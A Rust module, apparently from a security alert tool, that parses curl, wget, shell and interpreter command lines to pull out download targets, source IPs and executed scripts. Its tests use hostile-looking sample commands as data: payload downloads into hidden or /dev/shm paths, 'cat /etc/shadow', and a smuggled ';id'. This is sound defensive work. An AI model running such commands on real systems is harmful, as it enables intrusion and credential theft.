//! What a download tool was told: from which address, and into which file. Told is not done: the start is all that is proven.

use crate::model::Alert;
use std::net::IpAddr;

/// The absolute path of the file that curl or wget was told to write.
pub fn target(alert: &Alert) -> Option<String> {
    let (program, words) = words(alert)?;
    let (short, long) = match program {
        "curl" => ('o', "--output"),
        _ => ('O', "--output-document"),
    };
    let mut words_left = words.iter();
    let mut named = None;
    while let Some(word) = words_left.next() {
        if let Some(rest) = word.strip_prefix(long) {
            named = match rest.strip_prefix('=') {
                Some(value) => Some(value),
                None if rest.is_empty() => words_left.next().copied(),
                None => continue,
            };
        } else if let Some(letters) = word.strip_prefix('-').filter(|rest| !rest.starts_with('-'))
            && let Some((_, value)) = letters.split_once(short)
        {
            named = if value.is_empty() { words_left.next().copied() } else { Some(value) };
        }
    }
    let named = named.filter(|name| !name.is_empty() && *name != "-")?;
    if named.starts_with('/') {
        return Some(named.to_owned());
    }
    let cwd = alert.fields.text("proc.cwd").filter(|cwd| cwd.starts_with('/'))?;
    Some(format!("{}/{}", cwd.trim_end_matches('/'), named.trim_start_matches("./")))
}

/// The address in the URL that curl or wget was given, where it is a number.
pub fn address(alert: &Alert) -> Option<String> {
    let (_, words) = words(alert)?;
    words.iter().find_map(|word| {
        let (_, rest) = word.split_once("://")?;
        let host = rest.split(['/', '?', '#']).next()?.rsplit('@').next()?;
        let host = match host.strip_prefix('[') {
            Some(inner) => inner.split(']').next()?,
            None => host.split(':').next()?,
        };
        host.parse::<IpAddr>().ok().map(|_| host.to_owned())
    })
}

/// The absolute path of the script that a shell or an interpreter was told to run: `sh -c /dev/shm/x`, `python3 /tmp/x.py`.
pub fn script(alert: &Alert) -> Option<String> {
    let mut words = alert.fields.text("proc.cmdline")?.split_whitespace();
    let program = words.next()?.rsplit('/').next()?;
    let is_shell = ["sh", "bash", "dash", "ash", "zsh", "ksh"].contains(&program);
    let is_interpreter = ["python", "perl", "ruby", "node", "php"].iter().any(|name| {
        program
            .strip_prefix(name)
            .is_some_and(|rest| rest.bytes().all(|b| b.is_ascii_digit() || b == b'.'))
    });
    let first = words.next()?;
    let told = match first.strip_prefix('-') {
        // A shell's -c may stand with other letters (`-lc`); what follows is a command, and its first word the program.
        Some(letters) if is_shell && letters.ends_with('c') => words.next()?,
        Some(_) => return None,
        None if is_shell || is_interpreter => first,
        None => return None,
    };
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "/._-+@,".contains(c);
    (told.starts_with('/') && told.len() > 1 && told.chars().all(is_plain)).then(|| told.to_owned())
}

fn words(alert: &Alert) -> Option<(&str, Vec<&str>)> {
    let mut words = alert.fields.text("proc.cmdline")?.split_whitespace();
    let program = words.next()?.rsplit('/').next()?;
    matches!(program, "curl" | "wget").then(|| (program, words.collect()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::Value;

    #[track_caller]
    fn told(command: &str, expected: Option<&str>) {
        let mut alert = Alert::default();
        let _ = alert.fields.set("proc.cmdline", Value::String(command.into()));
        assert_eq!(script(&alert).as_deref(), expected, "{command}");
    }

    #[test]
    fn the_script_that_a_shell_was_told_to_run_is_the_file() {
        told("sh -c /dev/shm/run.sh", Some("/dev/shm/run.sh"));
        told("bash -lc /tmp/x --fast", Some("/tmp/x"));
        told("/bin/sh /tmp/x.sh", Some("/tmp/x.sh"));
        told("python3.11 /tmp/x.py", Some("/tmp/x.py"));
        told("sh -c cat /etc/shadow", None);
        told("sh -c /tmp/x;id", None);
        told("cat /etc/shadow", None);
        told("python3 -c /tmp/x", None);
        told("sh -i", None);
        told("sh", None);
    }

    #[track_caller]
    fn check(cmdline: &str, expected: (Option<&str>, Option<&str>)) {
        let mut alert = Alert::default();
        alert.fields.set("proc.cmdline", Value::String(cmdline.into()));
        alert.fields.set("proc.cwd", Value::String("/srv/app/".into()));
        let found = (target(&alert), address(&alert));
        assert_eq!((found.0.as_deref(), found.1.as_deref()), expected, "{cmdline}");
    }

    #[test]
    fn the_file_and_the_address_of_a_download_are_read() {
        check(
            "curl -fsSL http://203.0.113.66/k -o /tmp/.x/k",
            (Some("/tmp/.x/k"), Some("203.0.113.66")),
        );
        check("curl -fsSLo /tmp/k http://h.example/k", (Some("/tmp/k"), None));
        check(
            "curl --output=k.sh http://u:p@198.51.100.7:8080/k",
            (Some("/srv/app/k.sh"), Some("198.51.100.7")),
        );
        check("/usr/bin/wget -O- http://h.example/k", (None, None));
        check("wget -qO ./k http://[2001:db8::7]:80/k", (Some("/srv/app/k"), Some("2001:db8::7")));
        check("wget --output-document /dev/shm/k http://h.example", (Some("/dev/shm/k"), None));
        check("curl http://203.0.113.66/k", (None, Some("203.0.113.66")));
        check("sh -c curl -o /tmp/k http://203.0.113.66/k", (None, None));
    }
}
